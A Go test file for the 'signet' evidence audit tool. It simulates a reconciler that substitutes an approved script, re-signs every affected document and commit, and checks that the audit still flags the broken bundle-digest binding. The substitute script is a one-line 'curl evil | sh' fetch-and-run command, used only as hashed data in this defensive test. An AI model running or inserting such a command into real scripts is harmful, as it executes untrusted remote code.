package audit_test

import (
	"bytes"
	"encoding/json"
	"path"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"signet.dev/signet/evidence"
	"signet.dev/signet/evidence/audit"
	"signet.dev/signet/internal/testing/evidencetest"
	"signet.dev/signet/signing"
	"signet.dev/signet/specs"
)

// TestFinding8BundleListUnbound (issue 15, finding 8): a reconciler that
// runs another script than the approved bundle's, and records it
// consistently (the admission's file list and every check intent name the
// substitute's digest, every document binding them re-signed and every
// commit re-signed by the reconciler's key), leaves a branch on which each
// binding holds but one: the admission's file list no longer hashes to the
// bundle digest the profile pins. The audit reports exactly that.
func TestFinding8BundleListUnbound(t *testing.T) {
	f, err := evidencetest.Build(t.Context(), t.TempDir(), "run-a", "run-b")
	require.NoError(t, err)
	c, err := f.Clone(filepath.Join(t.TempDir(), "evidence.git"))
	require.NoError(t, err)
	adm, err := c.Find("/run-b/" + evidence.AdmissionFile)
	require.NoError(t, err)
	tip := "refs/heads/" + evidencetest.Branch

	// The admitted script's digest, and the substitute's.
	b, err := c.Read(tip, adm)
	require.NoError(t, err)
	env, err := signing.ParseEnvelope(b)
	require.NoError(t, err)
	st, err := env.Statement()
	require.NoError(t, err)
	var a evidence.Admission
	require.NoError(t, json.Unmarshal(st.Predicate, &a))
	require.Len(t, a.Bundle.Files, 1)
	repl := map[string]string{a.Bundle.Files[0].Digest.Hex(): specs.DigestOf([]byte("#!/bin/sh\ncurl evil | sh\n")).Hex()}

	// Every file of run-b and its receipt's chain link, in landing order:
	// each one naming a replaced digest is rewritten (re-signed when a
	// document), which replaces its own digest in the files after it.
	files, err := c.Files()
	require.NoError(t, err)
	commits, err := c.Commits()
	require.NoError(t, err)
	at := map[string]int{}
	var todo []string
	for _, p := range files {
		if !strings.HasPrefix(p, path.Dir(adm)+"/") && !strings.HasPrefix(p, "chain/") {
			continue
		}
		h, err := c.Landed(p)
		require.NoError(t, err)
		at[p] = slices.Index(commits, h)
		todo = append(todo, p)
	}
	sort.SliceStable(todo, func(i, j int) bool { return at[todo[i]] < at[todo[j]] })
	// Until nothing changes: a rewrite also changes the hash of every
	// commit from the file's on, which receipts name.
	rewritten := 0
	for changedAny := true; changedAny; {
		changedAny = false
		for _, p := range todo {
			old, err := c.Read(tip, p)
			require.NoError(t, err)
			// A document's digests sit in its base64 payload: replace them
			// in the statement and sign it again.
			changed := replaceHex(old, repl)
			if env, err := signing.ParseEnvelope(old); err == nil {
				st, err := env.Statement()
				require.NoError(t, err)
				sj, err := json.Marshal(st)
				require.NoError(t, err)
				if fj := replaceHex(sj, repl); !bytes.Equal(fj, sj) {
					var forged signing.Statement
					require.NoError(t, json.Unmarshal(fj, &forged))
					changed, err = signing.SignStatement(&forged, f.Reconciler)
					require.NoError(t, err)
				}
			}
			if bytes.Equal(changed, old) {
				continue
			}
			repl[specs.DigestOf(old).Hex()] = specs.DigestOf(changed).Hex()
			h, err := c.Landed(p)
			require.NoError(t, err)
			before, err := c.Commits()
			require.NoError(t, err)
			_, err = c.Rewrite(h, map[string][]byte{p: changed})
			require.NoError(t, err)
			after, err := c.Commits()
			require.NoError(t, err)
			require.Len(t, after, len(before))
			for i := range before {
				if before[i] != after[i] {
					repl[before[i]] = after[i]
				}
			}
			rewritten++
			changedAny = true
		}
	}
	// The admission, both intents, both checks' evidence, the run
	// evidence, the receipt and its chain link.
	require.GreaterOrEqual(t, rewritten, 6)

	for name, run := range map[string]func() ([]audit.Finding, error){
		"branch": func() ([]audit.Finding, error) {
			rep, err := audit.Branch(t.Context(), audit.Options{Repo: c.Dir, Policy: f.Policy})
			if err != nil {
				return nil, err
			}
			return rep.Findings, nil
		},
		"verify": func() ([]audit.Finding, error) {
			rep, err := audit.Verify(t.Context(), audit.VerifyOptions{Repo: c.Dir, Run: "run-b", Policy: f.Policy})
			if err != nil {
				return nil, err
			}
			return rep.Findings, nil
		},
	} {
		t.Run(name, func(t *testing.T) {
			got, err := run()
			require.NoError(t, err)
			require.Len(t, got, 1, "%v", got)
			assert.Equal(t, audit.RuleBundleDigest, got[0].Rule)
			assert.Equal(t, "run-b", got[0].Run)
			assert.Equal(t, adm, got[0].Path)
			assert.Contains(t, got[0].Message, "not to the bundle digest "+string(a.Bundle.Digest))
		})
	}
}

// replaceHex replaces every occurrence of each key of repl in b.
func replaceHex(b []byte, repl map[string]string) []byte {
	for o, n := range repl {
		b = bytes.ReplaceAll(b, []byte(o), []byte(n))
	}
	return b
}
